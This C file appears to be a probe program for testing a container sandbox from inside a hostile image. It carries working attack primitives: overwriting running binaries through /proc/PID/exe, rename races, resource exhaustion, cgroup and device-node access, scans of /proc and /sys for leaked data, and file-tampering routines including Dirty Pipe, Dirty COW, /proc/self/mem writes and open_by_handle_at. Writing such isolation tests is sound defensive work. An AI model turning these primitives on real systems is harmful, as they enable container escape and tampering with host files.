/* What a program in a hostile image does: the first argument says which. Each line that it prints is one
 * thing that it found; a call that fails is printed as the number of its error. Built with -static. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/fs.h>
#include <mqueue.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif

static int number(long result)
{
    return result < 0 ? errno : 0;
}

/* Tries every way of writing to the file that `path` opens, and says whether one worked. */
static int writes(const char *path)
{
    static const int flags[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND};
    int wrote = 0;
    for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
        int file = open(path, flags[i] | O_CLOEXEC | O_NONBLOCK);
        if (file < 0)
            continue;
        if (write(file, "overwritten\n", 12) > 0 || ftruncate(file, 1) == 0)
            wrote = 1;
        close(file);
    }
    return wrote;
}

/* write-exe PATH: what PATH (a descriptor of a program that has ended, by its link) opens for writing. */
static int write_exe(const char *path)
{
    struct stat facts;
    /* Busy as long as the last process that runs it lives: some tries more. */
    int wrote = 0;
    for (int i = 0; i < 50 && !wrote; i++) {
        wrote = writes(path);
        usleep(1000);
    }
    if (stat(path, &facts) == 0)
        printf("file %lu:%lu\n", (unsigned long)facts.st_dev, (unsigned long)facts.st_ino);
    printf("%s\n", wrote ? "wrote" : "not written");
    return 0;
}

/* race-exe: writes to whatever binary any process of the container runs, until there is /stop. */
static int race_exe(void)
{
    long tried = 0, wrote = 0;
    while (access("/stop", F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            char path[300], link[300];
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            ssize_t length = readlink(path, link, sizeof link - 1);
            if (length < 0)
                continue;
            link[length] = 0;
            /* What is in the image is the image's. */
            if (strncmp(link, "/bin/", 5) == 0 || strncmp(link, "/attacker", 9) == 0)
                continue;
            tried++;
            wrote += writes(path);
        }
        if (proc)
            closedir(proc);
        usleep(100);
    }
    printf("tried %ld\nwrote %ld\n", tried, wrote);
    return 0;
}

/* exchange A B MILLISECONDS: swaps two names as fast as it can. */
static int exchange(const char *one, const char *other, long milliseconds)
{
    struct timespec now, end;
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_sec += milliseconds / 1000 + 1;
    long count = 0;
    int said = 0;
    do {
        for (int i = 0; i < 100; i++)
            count += syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* EXCHANGE */) == 0;
        if (!said && count > 0)
            printf("swaps\n");
        said = count > 0;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec < end.tv_sec);
    printf("swapped %ld\n", count);
    return 0;
}

/* Takes as much of one thing as it is given, says how much, and holds it. */
static int exhaust(const char *what)
{
    long count = 0;
    for (; count < 100000; count++) {
        char name[40];
        long result = -1;
        errno = ENOSYS;
        if (strcmp(what, "inotify") == 0)
            result = inotify_init1(IN_CLOEXEC);
        else if (strcmp(what, "queues") == 0) {
            struct mq_attr size = {.mq_maxmsg = 10, .mq_msgsize = 8192};
            snprintf(name, sizeof name, "/%d-%ld", getpid(), count);
            result = mq_open(name, O_CREAT | O_RDWR, 0600, &size);
        } else if (strcmp(what, "signals") == 0) {
            sigset_t set;
            sigemptyset(&set);
            sigaddset(&set, SIGRTMIN);
            sigprocmask(SIG_BLOCK, &set, NULL);
            result = sigqueue(getpid(), SIGRTMIN, (union sigval){0});
        } else if (strcmp(what, "locked") == 0) {
            void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            result = mlock(page, 4096);
        } else if (strcmp(what, "processes") == 0) {
            result = fork();
            if (result == 0) {
                pause();
                _exit(0);
            }
        }
        if (result < 0)
            break;
    }
    printf("took %ld, then %d\n", count, errno);
    fflush(stdout);
    pause();
    return 0;
}

/* Whether one of each can be had. */
static int have(void)
{
    struct mq_attr size = {.mq_maxmsg = 10, .mq_msgsize = 8192};
    timer_t timer;
    printf("inotify %d\n", number(inotify_init1(IN_CLOEXEC)));
    printf("queues %d\n", number(mq_open("/one", O_CREAT | O_RDWR, 0600, &size)));
    printf("signals %d\n", number(timer_create(CLOCK_MONOTONIC, NULL, &timer)));
    void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    printf("locked %d\n", number(mlock(page, 4096)));
    pid_t child = fork();
    if (child == 0)
        _exit(0);
    printf("processes %d\n", number(child));
    return 0;
}

/* Ways to a cgroup file system: by the old calls and the new ones, with a user namespace and without. */
static int cgroups(void)
{
    static const char *const controllers[] = {"memory", "devices", "pids", "cpu", "freezer", "rdma"};
    printf("unshare %d\n",
           number(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)));
    mkdir("/mnt", 0755);
    for (size_t i = 0; i < sizeof controllers / sizeof *controllers; i++)
        printf("mount %s %d\n", controllers[i],
               number(mount("none", "/mnt", "cgroup", 0, controllers[i])));
    printf("mount cgroup2 %d\n", number(mount("none", "/mnt", "cgroup2", 0, NULL)));
    printf("fsopen cgroup %d\n", number(syscall(SYS_fsopen, "cgroup", 0)));
    printf("fsopen cgroup2 %d\n", number(syscall(SYS_fsopen, "cgroup2", 0)));
    printf("remount / %d\n", number(mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL)));
    return 0;
}

/* device PATH TYPE MAJOR MINOR: makes a node, if MAJOR is given, and opens PATH. */
static int device(int count, char **words)
{
    if (count > 3)
        printf("mknod %d\n", number(mknod(words[0], (words[1][0] == 'b' ? S_IFBLK : S_IFCHR) | 0666,
                                          makedev(atoi(words[2]), atoi(words[3])))));
    printf("open %d\n", number(open(words[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC)));
    return 0;
}

static int seen(const char *path, const struct stat *facts, int kind, struct FTW *place)
{
    (void)place;
    if (kind != FTW_F)
        return 0;
    if (S_ISSOCK(facts->st_mode))
        printf("socket %s\n", path);
    return 0;
}

static int writable(const char *path, const struct stat *facts, int kind, struct FTW *place)
{
    (void)facts, (void)place;
    if (kind != FTW_F)
        return 0;
    /* Opening is enough, and changes nothing. */
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file >= 0) {
        printf("writable %s\n", path);
        close(file);
    }
    return 0;
}

/* Sockets that can be seen: in the file system, and by name in the network namespace. */
static int sockets(void)
{
    char line[512];
    static const char *const tops[] = {"/bin", "/dev", "/etc", "/mnt", "/root", "/run", "/tmp", "/var", "/home"};
    for (size_t i = 0; i < sizeof tops / sizeof *tops; i++)
        nftw(tops[i], seen, 64, FTW_PHYS);
    FILE *table = fopen("/proc/net/unix", "r");
    while (table && fgets(line, sizeof line, table)) {
        char *name = strrchr(line, ' ');
        if (name && (name[1] == '@' || name[1] == '/'))
            printf("named%s", name);
    }
    puts("end");
    return 0;
}

/* connect PATH...: what a connection to each is answered. */
static int connect_to(int count, char **paths)
{
    static const int kinds[] = {SOCK_SEQPACKET, SOCK_STREAM};
    for (int i = 0; i < count; i++) {
        struct sockaddr_un name = {.sun_family = AF_UNIX};
        int best = -1;
        snprintf(name.sun_path, sizeof name.sun_path, "%s", paths[i]);
        for (size_t k = 0; k < 2 && best != 0; k++) {
            int end = socket(AF_UNIX, kinds[k] | SOCK_CLOEXEC, 0);
            int answer = number(connect(end, (struct sockaddr *)&name, sizeof name));
            if (best < 0 || answer != EPROTOTYPE)
                best = answer;
            close(end);
        }
        printf("%s %d\n", paths[i], best);
    }
    return 0;
}

/* deep LEVELS: directories in directories, each closed to everybody but root. */
static int deep(long levels)
{
    long made = 0;
    for (; made < levels && mkdir("d", 0) == 0 && chdir("d") == 0; made++)
        ;
    printf("made %ld\n", made);
    return 0;
}

#define KEY "berth-canary"
#define SESSION -3L

/* keys: whether the session keyring has the caller's key. */
static int keys(void)
{
    printf("key %d\n", number(syscall(SYS_keyctl, 10L /* SEARCH */, SESSION, "user", KEY, 0L)));
    return 0;
}

/* with-key PROGRAM ...: runs it with a session keyring that has the key. */
static int with_key(char **words)
{
    if (syscall(SYS_keyctl, 1L /* JOIN_SESSION_KEYRING */, NULL) < 0 ||
        syscall(SYS_add_key, "user", KEY, "x", 1L, SESSION) < 0)
        return perror("add a key"), 1;
    execv(words[0], words);
    return perror("run"), 1;
}

/* What `readable` looks for in all that it reads: somebody else's name. */
static char marker[256];

static int marked(const char *text, size_t length)
{
    return memmem(text, length, marker, strlen(marker)) != NULL;
}

static void interrupted(int number)
{
    (void)number;
}

/* One entry: what it is (`f` a file that tells something, `-` one that tells nothing, `d`, `l`, `?`) and its path;
 * behind it, whether the marker is in its name, target or contents. */
static int told(const char *path, const struct stat *facts, int kind, struct FTW *place)
{
    static char text[256 * 1024];
    (void)place;
    char letter = '?';
    ssize_t length = 0;
    if (kind == FTW_D || kind == FTW_DNR)
        letter = 'd';
    else if (kind == FTW_SL) {
        letter = 'l';
        length = readlink(path, text, sizeof text);
    } else if (facts && S_ISREG(facts->st_mode)) {
        /* A read that waits is cut by the signal. */
        alarm(2);
        int file = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
        length = file < 0 ? -1 : read(file, text, sizeof text);
        for (ssize_t more = length; more > 0 && length < (ssize_t)sizeof text; length += more)
            if ((more = read(file, text + length, sizeof text - length)) < 0)
                more = 0;
        alarm(0);
        if (file >= 0)
            close(file);
        letter = length > 0 ? 'f' : '-';
    }
    int found = marked(path, strlen(path)) || (length > 0 && marked(text, length));
    printf("%c %s%s\n", letter, path, found ? " marked" : "");
    return 0;
}

/* readable BEGIN END: walks /proc and /sys and says of each entry what can be read of it. The marker comes in two
 * parts: its own command line does not have it. */
static int readable(const char *begin, const char *end)
{
    struct sigaction act = {.sa_handler = interrupted};
    static char output[1 << 16];
    sigaction(SIGALRM, &act, NULL);
    setvbuf(stdout, output, _IOFBF, sizeof output);
    snprintf(marker, sizeof marker, "%s%s", begin, end);
    nftw("/proc", told, 64, FTW_PHYS);
    nftw("/sys", told, 64, FTW_PHYS);
    return puts("end"), 0;
}

/* Ways to alter a file that others share, each on a file of its own with that name. What a call answers is printed;
 * whether the file has changed is for others to see, who look at what lies below. */

static const char payload[] = "overwritten";
#define PAYLOAD (sizeof payload - 1)

static int shared_open(const char *path, int flags)
{
    return open(path, flags | O_CLOEXEC);
}

/* By a page of a pipe that is the file's own page in the cache, and says that it can be added to (CVE-2022-0847). */
static int by_splice(const char *path)
{
    static char filler[4096];
    int ends[2], file = shared_open(path, O_RDONLY);
    if (file < 0 || pipe(ends) < 0)
        return errno;
    long size = fcntl(ends[1], F_GETPIPE_SZ);
    for (long left = size; left > 0; left -= sizeof filler)
        if (write(ends[1], filler, sizeof filler) < 0)
            return errno;
    for (long left = size; left > 0; left -= sizeof filler)
        if (read(ends[0], filler, sizeof filler) < 0)
            return errno;
    off_t start = 0;
    if (splice(file, &start, ends[1], NULL, 1, 0) < 0 || write(ends[1], payload, PAYLOAD) < 0)
        return errno;
    return 0;
}

/* By a page that was lent to a pipe, moved into a file that is open for reading. */
static int by_vmsplice(const char *path)
{
    int ends[2], file = shared_open(path, O_RDONLY);
    char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (file < 0 || pipe(ends) < 0 || page == MAP_FAILED)
        return errno;
    memcpy(page, payload, PAYLOAD);
    struct iovec lent = {.iov_base = page, .iov_len = 4096};
    if (vmsplice(ends[1], &lent, 1, SPLICE_F_GIFT) < 0)
        return errno;
    off_t start = 0;
    return number(splice(ends[0], NULL, file, &start, 4096, SPLICE_F_MOVE));
}

/* By a mapping that is shared with the file, made while that was only read, and made writable later. */
static int by_mprotect(const char *path)
{
    int file = shared_open(path, O_RDONLY);
    char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
    if (page == MAP_FAILED || mprotect(page, 4096, PROT_READ | PROT_WRITE) < 0)
        return errno;
    memcpy(page, payload, PAYLOAD);
    return number(msync(page, 4096, MS_SYNC));
}

/* By a shared mapping of the file that was opened for reading before the file was copied up. */
static int by_mapping(const char *path)
{
    int reads = shared_open(path, O_RDONLY), writes = shared_open(path, O_RDWR);
    char *seen = mmap(NULL, 4096, PROT_READ, MAP_SHARED, reads, 0);
    char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, writes, 0);
    if (seen == MAP_FAILED || page == MAP_FAILED)
        return errno;
    memcpy(page, payload, PAYLOAD);
    return number(msync(page, 4096, MS_SYNC));
}

/* By what writes to one's own memory whatever its protection. */
static int by_memory(const char *path)
{
    int file = shared_open(path, O_RDONLY), memory = shared_open("/proc/self/mem", O_RDWR);
    char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
    if (page == MAP_FAILED || memory < 0)
        return errno;
    return number(pwrite(memory, payload, PAYLOAD, (off_t)page));
}

static volatile int racing;

static void *forget(void *page)
{
    while (racing)
        madvise(page, 4096, MADV_DONTNEED);
    return NULL;
}

/* By a private copy of a page that is thrown away while it is written to (CVE-2016-5195). */
static int by_race(const char *path)
{
    int file = shared_open(path, O_RDONLY), memory = shared_open("/proc/self/mem", O_RDWR);
    char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_t other;
    if (page == MAP_FAILED || memory < 0)
        return errno;
    racing = 1;
    if ((errno = pthread_create(&other, NULL, forget, page)) != 0)
        return errno;
    long result = 0;
    for (int i = 0; i < 20000 && result >= 0; i++)
        result = pwrite(memory, payload, PAYLOAD, (off_t)page);
    int error = number(result);
    racing = 0;
    pthread_join(other, NULL);
    return error;
}

/* By a link that stands for an open file, or for a mapped one. */
static int by_link(const char *directory, const char *path)
{
    char link[128];
    int file = shared_open(path, O_RDONLY);
    char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
    if (page == MAP_FAILED)
        return errno;
    if (strcmp(directory, "fd") == 0)
        snprintf(link, sizeof link, "/proc/self/fd/%d", file);
    else
        snprintf(link, sizeof link, "/proc/self/map_files/%lx-%lx", (long)page, (long)page + 4096);
    int again = shared_open(link, O_RDWR);
    return again < 0 ? errno : number(write(again, payload, PAYLOAD));
}

static int by_descriptor_link(const char *path)
{
    return by_link("fd", path);
}

static int by_mapping_link(const char *path)
{
    return by_link("map_files", path);
}

static int by_handle(const char *path)
{
    char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    struct file_handle *handle = (struct file_handle *)space;
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount, directory = shared_open("/", O_RDONLY | O_DIRECTORY);
    /* Where file systems say nothing of it, what a handle looks like is no secret. */
    if (name_to_handle_at(AT_FDCWD, path, handle, &mount, 0) < 0) {
        handle->handle_bytes = 8;
        handle->handle_type = 1;
        memcpy(handle->f_handle, "\2\0\0\0\0\0\0\0", 8);
    }
    int again = open_by_handle_at(directory, handle, O_RDWR | O_CLOEXEC);
    return again < 0 ? errno : number(write(again, payload, PAYLOAD));
}

static int by_flags(const char *path)
{
    int flags = FS_IMMUTABLE_FL | FS_NODUMP_FL, file = shared_open(path, O_RDONLY);
    if (ioctl(file, FS_IOC_SETFLAGS, &flags) == 0)
        return 0;
    flags = FS_NODUMP_FL;
    return number(ioctl(file, FS_IOC_SETFLAGS, &flags));
}

static int by_hole(const char *path)
{
    int file = shared_open(path, O_RDONLY);
    return number(fallocate(file, 3 /* PUNCH_HOLE | KEEP_SIZE */, 0, 4096));
}

static int by_clone(const char *path)
{
    char other[256];
    snprintf(other, sizeof other, "%s.own", path);
    int file = shared_open(path, O_RDONLY), own = open(other, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    if (write(own, payload, PAYLOAD) < 0)
        return errno;
    int error = number(ioctl(file, FICLONE, own));
    off_t from = 0, to = 0;
    if (copy_file_range(own, &from, file, &to, PAYLOAD, 0) >= 0)
        return 0;
    return error;
}

static int by_remount(const char *path)
{
    int error = number(mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    int file = shared_open(path, O_WRONLY);
    if (file >= 0)
        write(file, payload, PAYLOAD);
    return error;
}

static int by_write(const char *path)
{
    int file = shared_open(path, O_WRONLY);
    return file < 0 ? errno : number(write(file, payload, PAYLOAD));
}

static int by_truncate(const char *path)
{
    return number(truncate(path, 1));
}

static int by_mode(const char *path)
{
    return number(chmod(path, 04777));
}

static int by_owner(const char *path)
{
    return number(chown(path, 1, 1));
}

static int by_attribute(const char *path)
{
    return number(setxattr(path, "user.overwritten", payload, PAYLOAD, 0));
}

static int by_time(const char *path)
{
    struct timespec times[2] = {{.tv_sec = 1}, {.tv_sec = 1}};
    int file = shared_open(path, O_RDONLY);
    return number(futimens(file, times));
}

static int by_removal(const char *path)
{
    return number(unlink(path));
}

static int by_name(const char *path)
{
    char other[256];
    snprintf(other, sizeof other, "%s.moved", path);
    return number(rename(path, other));
}

/* alter DIRECTORY: every way on the file in it that has its name. */
static int alter(const char *directory)
{
    static const struct {
        const char *name;
        int (*way)(const char *);
    } ways[] = {
        {"splice", by_splice}, {"vmsplice", by_vmsplice}, {"mprotect", by_mprotect},
        {"mapping", by_mapping}, {"memory", by_memory}, {"race", by_race},
        {"descriptor-link", by_descriptor_link}, {"mapping-link", by_mapping_link},
        {"handle", by_handle}, {"flags", by_flags}, {"hole", by_hole}, {"clone", by_clone},
        {"remount", by_remount}, {"write", by_write}, {"truncate", by_truncate}, {"mode", by_mode},
        {"owner", by_owner}, {"attribute", by_attribute}, {"time", by_time},
        {"removal", by_removal}, {"name", by_name},
    };
    char path[256];
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        snprintf(path, sizeof path, "%s/%s", directory, ways[i].name);
        printf("%s %d\n", ways[i].name, ways[i].way(path));
    }
    return 0;
}

int main(int count, char **words)
{
    if (count < 2)
        return 2;
    const char *verb = words[1];
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (strcmp(verb, "write-exe") == 0 && count == 3)
        return write_exe(words[2]);
    if (strcmp(verb, "race-exe") == 0)
        return race_exe();
    if (strcmp(verb, "exchange") == 0 && count == 5)
        return exchange(words[2], words[3], atol(words[4]));
    if (strcmp(verb, "exhaust") == 0 && count == 3)
        return exhaust(words[2]);
    if (strcmp(verb, "have") == 0)
        return have();
    if (strcmp(verb, "cgroups") == 0)
        return cgroups();
    if (strcmp(verb, "device") == 0)
        return device(count - 2, words + 2);
    if (strcmp(verb, "deep") == 0 && count == 3)
        return deep(atol(words[2]));
    if (strcmp(verb, "keys") == 0)
        return keys();
    if (strcmp(verb, "with-key") == 0 && count > 2)
        return with_key(words + 2);
    if (strcmp(verb, "sockets") == 0)
        return sockets();
    if (strcmp(verb, "connect") == 0)
        return connect_to(count - 2, words + 2);
    if (strcmp(verb, "writable") == 0 && count == 3)
        return nftw(words[2], writable, 64, FTW_PHYS), puts("end"), 0;
    if (strcmp(verb, "alter") == 0 && count == 3)
        return alter(words[2]);
    if (strcmp(verb, "readable") == 0 && count == 4)
        return readable(words[2], words[3]);
    return 2;
}
